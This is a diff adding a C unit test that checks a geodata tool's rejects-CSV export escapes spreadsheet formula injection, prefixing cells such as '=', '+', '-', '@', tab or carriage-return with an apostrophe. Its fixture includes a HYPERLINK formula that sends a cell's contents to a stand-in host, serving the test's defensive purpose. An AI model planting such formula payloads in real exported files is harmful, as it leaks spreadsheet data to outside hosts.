@@ -598,6 +598,41 @@ static void test_rejects_csv(void **state)
     free(txt);
 }
 
+/* OWASP CSV injection: text a spreadsheet would run as a formula gets a
+ * leading apostrophe (inside the quotes when quoted); plain numbers and
+ * harmless text are written as they are. */
+static void test_csv_formula_cells_neutralised(void **state)
+{
+    (void)state;
+    char p[512];
+    path_in(p, sizeof p, "formula.csv");
+    geo_rejects r = {0};
+    const char *details[] = {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1 555", "-2+3", "@SUM(A1)",
+                             "\tx", "\rx", "-12.5", "+3e2", "plain", "a=b"};
+    for (size_t i = 0; i < sizeof details / sizeof *details; i++)
+        assert_int_equal(geo_rejects_add(&r, "parcels", (int64_t)i, NULL, "r", "%s", details[i]), FR_OK);
+    fr_error err = {0};
+    assert_int_equal(geo_write_rejects_csv(&r, p, &err), FR_OK);
+    geo_rejects_clear(&r);
+    char *txt = slurp(p, NULL);
+    assert_string_equal(txt, "layer,fid,field,reason,detail\n"
+                             "parcels,0,,r,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"\n"
+                             "parcels,1,,r,'+1 555\n"
+                             "parcels,2,,r,'-2+3\n"
+                             "parcels,3,,r,'@SUM(A1)\n"
+                             "parcels,4,,r,'\tx\n"
+                             "parcels,5,,r,\"'\rx\"\n"
+                             "parcels,6,,r,-12.5\n"
+                             "parcels,7,,r,+3e2\n"
+                             "parcels,8,,r,plain\n"
+                             "parcels,9,,r,a=b\n");
+    free(txt);
+    assert_true(geo_csv_formula_risk("=1"));
+    assert_false(geo_csv_formula_risk("-1"));
+    assert_false(geo_csv_formula_risk(""));
+    assert_false(geo_csv_formula_risk(NULL));
+}
+
 /* ---- determinism ----------------------------------------------------- */
 
 static const char *const shp_exts[] = {"shp", "shx", "dbf", "prj", "cpg"};
@@ -1174,6 +1209,7 @@ int main(void)
         cmocka_unit_test(test_shapefile_content),
         cmocka_unit_test(test_csv_exact_bytes),
         cmocka_unit_test(test_rejects_csv),
+        cmocka_unit_test(test_csv_formula_cells_neutralised),
         cmocka_unit_test(test_byte_identical_reruns),
         cmocka_unit_test(test_two_threads_at_once),
         cmocka_unit_test(test_shapefile_matches_gdal_driver),
